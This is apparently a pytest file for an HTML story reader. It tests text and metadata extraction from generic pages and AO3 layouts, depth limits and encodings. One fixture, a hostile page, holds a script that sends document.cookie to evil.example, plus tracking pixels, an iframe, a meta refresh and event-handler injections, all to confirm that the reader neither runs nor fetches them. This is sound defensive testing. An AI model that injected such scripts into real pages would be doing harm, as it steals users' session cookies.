"""HTML: hostile pages, generic pages, AO3 layouts beyond the round-trip fixture."""

from __future__ import annotations

import socket

import pytest

from betareader.errors import InputError
from betareader.readers import read_bytes

HOSTILE = b"""<!DOCTYPE html>
<html><head>
<title>Chapter 1</title>
<script>fetch("http://evil.example/steal?c=" + document.cookie)</script>
<style>p { color: red }</style>
<link rel="stylesheet" href="http://evil.example/x.css">
<meta http-equiv="refresh" content="0; url=http://evil.example/">
</head>
<body onload="alert('x')">
<nav><a href="/">Home</a> | <a href="/works">Works</a></nav>
<p onclick="alert(1)">She <em onmouseover="steal()">ran</em>.<img src="http://evil.example/pixel.gif" alt="tracking"></p>
<iframe src="http://evil.example/frame.html">iframe fallback text</iframe>
<object data="http://evil.example/x.swf">object text</object>
<svg><text>svg text</text><script>alert(2)</script></svg>
<noscript>noscript text</noscript>
<p>Then <a href="javascript:alert(3)">she stopped</a>.<script>document.write("injected")</script></p>
<footer>Copyright footer</footer>
</body></html>"""


def test_hostile_html_nothing_executed_nothing_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the reader tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    source = read_bytes(HOSTILE, "hostile.html")
    assert source.text == "She ran.\n\nThen she stopped."
    assert [source.text[s:e] for s, e in source.italics] == ["ran"]
    assert source.metadata == {"title": "Chapter 1"}


def test_generic_page_main_article_line_breaks_and_scene_breaks() -> None:
    page = b"""<html lang="en"><head><meta name="author" content="someone"></head><body>
    <header><h1>My Fic Blog</h1></header>
    <aside>Recent posts: lots of links</aside>
    <main>
      <h2>Part   Two</h2>
      <p>Line one<br>
         line two<br/>line <i>three</i>  </p>
      <hr>
      <div>A   div paragraph
      over two source lines.</div>
      <pre>  kept   as is</pre>
      <p>&nbsp;</p>
      <ul><li>first</li><li><span style="font-style: italic">second</span></li></ul>
    </main>
    <footer>Comments (3)</footer>
    </body></html>"""
    source = read_bytes(page, "blog.html")
    assert source.text == (
        "Part Two\n\nLine one\nline two\nline three\n\n* * *\n\n"
        "A div paragraph over two source lines.\n\nkept   as is\n\nfirst\n\nsecond"
    )
    assert [source.text[s:e] for s, e in source.headings] == ["Part Two"]
    assert [source.text[s:e] for s, e in source.italics] == ["three", "second"]
    assert source.metadata == {"author": "someone", "language": "en"}


def _ao3_chapter(number: int, body: str) -> str:
    return f"""<div class="meta group"><h2 class="heading">Chapter {number}</h2>
<p>Chapter Summary</p><blockquote class="userstuff"><p>Summary {number}.</p></blockquote>
<p>Chapter Notes</p><blockquote class="userstuff"><p>Notes {number}.</p>
<p>(See the end of the chapter for <a href="#chapter_{number}_endnotes">more notes</a>.)</p></blockquote></div>
<div class="userstuff"><h3 class="landmark heading">Chapter Text</h3>{body}</div>
<div class="meta group"><p>Chapter End Notes</p><blockquote class="userstuff"><p>End {number}.</p></blockquote></div>"""


def test_ao3_multi_chapter_work() -> None:
    page = f"""<html><body>
<div id="preface"><div class="meta"><dl class="tags"><dt>Fandoms:</dt><dd>Some Fandom</dd>
<dt>Stats:</dt><dd>Published: 2023-01-02 Updated: 2023-02-03 Words: 12,345 Chapters: 2/?</dd></dl>
<h1>Two Parts</h1><div class="byline">by <a rel="author" href="/users/a">a</a>, <a rel="author" href="/users/b">b</a></div></div></div>
<div id="chapters" class="userstuff">
{_ao3_chapter(1, "<p>First <em>chapter</em>.</p>")}
{_ao3_chapter(2, "<p>Second chapter.</p><p>More.</p>")}
</div>
<div id="afterword"><div id="children"><h2 class="heading">Works inspired by this one:</h2><ul><li>Another work</li></ul></div></div>
</body></html>""".encode()
    source = read_bytes(page, "work.html")
    assert source.text == "Chapter 1\n\nFirst chapter.\n\nChapter 2\n\nSecond chapter.\n\nMore."
    meta = source.metadata
    assert meta["fandoms"] == ["Some Fandom"]
    assert meta["authors"] == ["a", "b"] and meta["title"] == "Two Parts"
    assert meta["stats"] == {"published": "2023-01-02", "updated": "2023-02-03", "words": 12345, "chapters": "2/?"}
    notes = [(n["chapter"], n["kind"], n["text"].split("\n")[0]) for n in meta["notes"]]
    assert notes == [
        ("Chapter 1", "chapter summary", "Summary 1."), ("Chapter 1", "chapter notes", "Notes 1."),
        ("Chapter 1", "chapter end notes", "End 1."),
        ("Chapter 2", "chapter summary", "Summary 2."), ("Chapter 2", "chapter notes", "Notes 2."),
        ("Chapter 2", "chapter end notes", "End 2."),
    ]


def test_ao3_one_shot_with_story_straight_in_chapters() -> None:
    page = b"""<html><body><div id="preface"><div class="meta"><h1>One</h1></div></div>
<div id="chapters" class="userstuff"><p>Only <i>this</i>.</p><p>And this.</p></div></body></html>"""
    source = read_bytes(page, "oneshot.htm")
    assert source.text == "Only this.\n\nAnd this."
    assert source.metadata == {"title": "One"}


def test_deeply_nested_markup_does_not_overflow() -> None:
    def nested(depth: int) -> bytes:
        return b"<html><body>" + b"<div><em>" * depth + b"deep text" + b"</em></div>" * depth + b"</body></html>"

    source = read_bytes(nested(100), "deep.html")
    assert source.text == "deep text" and source.italics == [(0, 9)]
    # libxml2 stops descending past its depth limit: a clear error, not a crash
    with pytest.raises(InputError, match="no story text"):
        read_bytes(nested(20_000), "deeper.html")


def test_undeclared_encoding_cp1252_html() -> None:
    page = "<html><body><p>“Don’t,” she said.</p></body></html>".encode("cp1252")
    assert read_bytes(page, "old.html").text == "“Don’t,” she said."


AO3_WEB_PAGE = b"""<!DOCTYPE html><html><head><title>Web - Chapter 1 - a - Fandom [Archive of Our Own]</title></head>
<body><div id="outer"><div id="header"><h1 class="heading">Archive of Our Own</h1><ul class="navigation"><li>Fandoms</li></ul></div>
<div id="inner"><div id="main" role="article">
<ul class="work navigation actions"><li>Entire Work</li><li>Next Chapter</li></ul>
<div class="wrapper"><dl class="work meta group">
<dt class="rating tags">Rating:</dt><dd class="rating tags"><ul class="commas"><li><a class="tag">General Audiences</a></li></ul></dd>
<dt class="fandom tags">Fandom:</dt><dd class="fandom tags"><ul class="commas"><li><a class="tag">Fandom A</a></li><li><a class="tag">Fandom B</a></li></ul></dd>
<dt class="language">Language:</dt><dd class="language">English</dd>
<dt class="stats">Stats:</dt><dd class="stats"><dl class="stats"><dt class="published">Published:</dt><dd class="published">2022-05-06</dd>
<dt class="words">Words:</dt><dd class="words">2,001</dd><dt class="chapters">Chapters:</dt><dd class="chapters">1/2</dd></dl></dd>
</dl></div>
<div id="workskin"><div class="preface group"><h2 class="title heading">Web Work</h2>
<h3 class="byline heading"><a rel="author" href="/users/a/pseuds/a">a</a></h3>
<div class="summary module"><h3 class="heading">Summary:</h3><blockquote class="userstuff"><p>Work summary.</p></blockquote></div>
<div class="notes module"><h3 class="heading">Notes:</h3><blockquote class="userstuff"><p>Work notes.</p></blockquote></div></div>
<div id="chapters" role="article"><div class="chapter" id="chapter-1">
<div class="chapter preface group" role="complementary"><h3 class="title"><a href="/works/1/chapters/1">Chapter 1</a>: Arrival</h3>
<div class="notes module" role="complementary"><h3 class="heading">Notes:</h3><blockquote class="userstuff"><p>Chapter notes.</p></blockquote></div></div>
<div class="userstuff module" role="article"><h3 class="landmark heading" id="work">Chapter Text</h3>
<p>She <em>arrived</em>.</p></div>
<div class="chapter preface group" role="complementary"><div class="end notes module"><h3 class="heading">Notes:</h3>
<blockquote class="userstuff"><p>End notes.</p></blockquote></div></div></div></div></div>
<div id="feedback" class="feedback"><ul class="actions"><li>Kudos</li></ul><div id="comments_placeholder">Comment text</div></div>
</div></div><div id="footer" role="contentinfo"><h3 class="landmark heading">Footer</h3><p>About the Archive</p></div></div>
</body></html>"""


def test_ao3_saved_web_page() -> None:
    source = read_bytes(AO3_WEB_PAGE, "web.html")
    assert source.text == "Chapter 1: Arrival\n\nShe arrived."
    meta = source.metadata
    assert meta["title"] == "Web Work" and meta["author"] == "a" and meta["summary"] == "Work summary."
    assert meta["fandoms"] == ["Fandom A", "Fandom B"] and meta["rating"] == "General Audiences"
    assert meta["stats"] == {"published": "2022-05-06", "words": 2001, "chapters": "1/2"}
    assert [(n["chapter"], n["text"]) for n in meta["notes"]] == [
        (None, "Work notes."), ("Chapter 1: Arrival", "Chapter notes."), ("Chapter 1: Arrival", "End notes.")]
